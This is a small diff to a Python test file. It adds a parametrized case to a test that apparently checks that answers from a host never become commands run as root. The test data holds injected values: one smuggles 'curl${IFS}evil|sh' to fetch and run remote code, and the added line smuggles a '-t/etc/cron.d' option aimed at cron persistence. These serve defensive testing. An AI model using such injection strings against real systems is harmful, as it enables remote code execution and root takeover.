@@ -584,6 +584,7 @@ def test_sudo_starts_nothing_that_others_than_root_could_change(
     [
         ["others", "/usr/local;curl${IFS}evil|sh;true", "drwxrwxr-x", "2", "1000"],
         *(["sudo", name, "/home/a/.cache/netbench/worker-1"] for name in ("ALL", "%users", "a=b")),
+        ["sudo", "bench", "-t/etc/cron.d", "/home/a/.cache/netbench/worker-1"],
     ],
 )
 def test_what_a_host_answers_is_no_command_for_root(answer: list[str]) -> None:
